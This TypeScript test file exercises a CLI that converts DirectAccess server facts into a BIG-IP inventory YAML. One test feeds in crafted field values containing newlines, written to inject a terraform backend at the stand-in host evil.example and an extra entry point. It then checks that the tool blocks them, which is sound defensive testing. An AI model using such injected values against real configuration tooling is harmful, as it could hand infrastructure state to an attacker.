import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { parse } from "yaml";
import { runCli } from "./run-cli";
import { synthStack } from "../stack-helpers";

const FACTS = "__tests__/fixtures/facts";
const CLUSTER_AND_BRANCH = ["da-east-1", "da-east-2", "da-east-3", "da-leeds-1"].map(
  (name) => `${FACTS}/cluster-and-branch/${name}.json`,
);

let work: string;
beforeEach(() => (work = mkdtempSync(path.join(tmpdir(), "da-manage-out-facts-"))));
afterEach(() => rmSync(work, { recursive: true, force: true }));

test("turns a 3-node cluster and a single server into an inventory that validates and synthesizes", () => {
  const out = path.join(work, "corp-east.yaml");
  const result = runCli(
    "import-facts",
    ...CLUSTER_AND_BRANCH,
    "--name",
    "corp-east",
    "--vlan",
    "/Common/internal",
    "--out",
    out,
  );
  expect(result).toEqual({ code: 0, stdout: "", stderr: "" });
  const text = readFileSync(out, "utf8");
  // Three header comment lines and a blank line, then the inventory.
  expect(text.split("\n").slice(4)).toEqual([
    "name: corp-east",
    "bigip:",
    "  vlans: [/Common/internal]",
    "entryPoints:",
    "  - name: branch-leeds",
    '    clientPrefix: "2001:db8:8000:2000::/64"',
    "    servers:",
    "      - name: DA-LEEDS-1",
    '        internalAddress: "2001:db8:20::21"',
    "  - name: da-east",
    '    clientPrefix: "2001:db8:8000:1000::/59"',
    "    servers:",
    "      - name: DA-EAST-1",
    '        internalAddress: "2001:db8:10::11"',
    '        clientPrefix: "2001:db8:8000:1000::/64"',
    "      - name: DA-EAST-2",
    '        internalAddress: "2001:db8:10::12"',
    '        clientPrefix: "2001:db8:8000:1001::/64"',
    "        # note: Teredo is Client on DA-EAST-2; Manage Out cannot reach Teredo clients behind load balancers, only IP-HTTPS clients",
    "      - name: DA-EAST-3",
    '        internalAddress: "2001:db8:10::13"',
    '        clientPrefix: "2001:db8:8000:1002::/64"',
    "",
  ]);
  expect(runCli("validate", out).code).toBe(0);
  const stack = synthStack(text);
  expect(Object.keys(stack.resource.bigip_ltm_virtual_server)).toHaveLength(4);
});

test("stops with the explanation when every node reports only the cluster /59, writing nothing", () => {
  const out = path.join(work, "east.yaml");
  const files = ["da-east-1", "da-east-2"].map(
    (name) => `${FACTS}/cluster-prefix-only/${name}.json`,
  );
  const result = runCli("import-facts", ...files, "--vlan", "/Common/internal", "--out", out);
  expect(result.code).toBe(1);
  expect(result.stderr).toBe(
    "da-manage-out import-facts: every node of entry point 'da-east' (DA-EAST-1, DA-EAST-2) reports only the cluster prefix 2001:db8:8000:1000::/59, which Get-DAServer shows on every node of a load-balanced cluster; each node's own /64 is the IP-HTTPS route it publishes (Get-NetRoute -AddressFamily IPv6 | Where-Object Publish -eq Yes, on the IP-HTTPS interface). Collect the facts again on each node while IP-HTTPS is up, instead of copying the cluster prefix onto every node.\n",
  );
  expect(existsSync(out)).toBe(false);
});

test("flags what it cannot decide as TODO, and the inventory fails validation until a person decides", () => {
  const facts = JSON.parse(readFileSync(CLUSTER_AND_BRANCH[1], "utf8"));
  facts.publishedRoutes = facts.publishedRoutes.filter(
    (route: { Publish: string }) => route.Publish !== "Yes",
  );
  const withoutRoute = path.join(work, "da-east-2.json");
  writeFileSync(withoutRoute, JSON.stringify(facts));
  const result = runCli("import-facts", CLUSTER_AND_BRANCH[0], withoutRoute);
  expect(result.code).toBe(1);
  expect(result.stdout).toContain(
    "  vlans: [] # TODO: the corporate-side VLAN(s) of the internal BIG-IP, e.g. [/Common/internal] (or --vlan)",
  );
  expect(result.stdout).toContain(
    '        clientPrefix: "" # TODO: DA-EAST-2 publishes no /64 of its own on the IP-HTTPS interface (Get-NetRoute -AddressFamily IPv6 | Where-Object Publish -eq Yes, on the IP-HTTPS interface)',
  );
  expect(result.stderr).toContain("<stdout>:6:10: error: bigip.vlans must list at least 1 item");
});

test.each([
  ["not JSON", "{", 1, "is not JSON"],
  ["not facts", '{"hello": 1}', 1, "is not Get-DaManageOutFacts.ps1 output"],
])("rejects a facts file that is %s", (_, content, code, message) => {
  const file = path.join(work, "bad.json");
  writeFileSync(file, content);
  const result = runCli("import-facts", file);
  expect(result.code).toBe(code);
  expect(result.stderr).toContain(message);
});

test("keeps an existing --out file unless --force is given", () => {
  const out = path.join(work, "existing.yaml");
  writeFileSync(out, "keep me\n");
  expect(runCli("import-facts", ...CLUSTER_AND_BRANCH, "--out", out).code).toBe(2);
  expect(readFileSync(out, "utf8")).toBe("keep me\n");
});

test("reads a facts file written by Windows PowerShell with a byte order mark", () => {
  const file = path.join(work, "bom.json");
  writeFileSync(file, "\uFEFF" + readFileSync(CLUSTER_AND_BRANCH[3], "utf8"));
  const result = runCli("import-facts", file, "--vlan", "/Common/internal");
  expect(result.code).toBe(0);
  expect(result.stdout).toContain('internalAddress: "2001:db8:20::21"');
});

test("strings from the facts cannot add keys or entries to the inventory", () => {
  const facts = JSON.parse(readFileSync(CLUSTER_AND_BRANCH[1], "utf8"));
  facts.computerName =
    "DA-EAST-2\nterraform:\n  backend: { type: http, address: https://evil.example }";
  facts.teredo = { Type: "Client\n  - name: injected\n    clientPrefix: 2001:db8::/64" };
  const hostile = path.join(work, "da-east-2.json");
  writeFileSync(hostile, JSON.stringify(facts));
  const result = runCli(
    "import-facts",
    CLUSTER_AND_BRANCH[0],
    hostile,
    CLUSTER_AND_BRANCH[2],
    "--vlan",
    "/Common/internal",
  );
  const document = parse(result.stdout);
  expect(Object.keys(document)).toEqual(["bigip", "entryPoints"]);
  expect(document.entryPoints.map((entryPoint: { name: string }) => entryPoint.name)).toEqual([
    "da-east",
  ]);
  expect(result.stdout).toContain("Teredo is Client<U+000A LINE FEED>  - name: injected");
  expect(result.stdout).not.toContain("\nterraform:");
});

test("--out into a missing folder or onto a folder: one line, exit 2, nothing written", () => {
  expect(
    runCli("import-facts", ...CLUSTER_AND_BRANCH, "--out", path.join(work, "missing", "x.yaml")),
  ).toMatchObject({
    code: 2,
    stderr: expect.stringMatching(/^da-manage-out import-facts: --out .* does not exist\n$/),
  });
  expect(runCli("import-facts", ...CLUSTER_AND_BRANCH, "--out", work, "--force")).toMatchObject({
    code: 2,
    stderr: expect.stringMatching(/is not a regular file\n$/),
  });
});

test("reads a facts file Windows PowerShell 5.1 wrote as UTF-16", () => {
  const text = readFileSync(CLUSTER_AND_BRANCH[3], "utf8");
  const utf16 = path.join(work, "da-leeds-1.json");
  writeFileSync(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]));
  const result = runCli("import-facts", utf16, "--vlan", "/Common/internal");
  expect(result.code).toBe(0);
  expect(result.stdout).toContain('internalAddress: "2001:db8:20::21"');
});
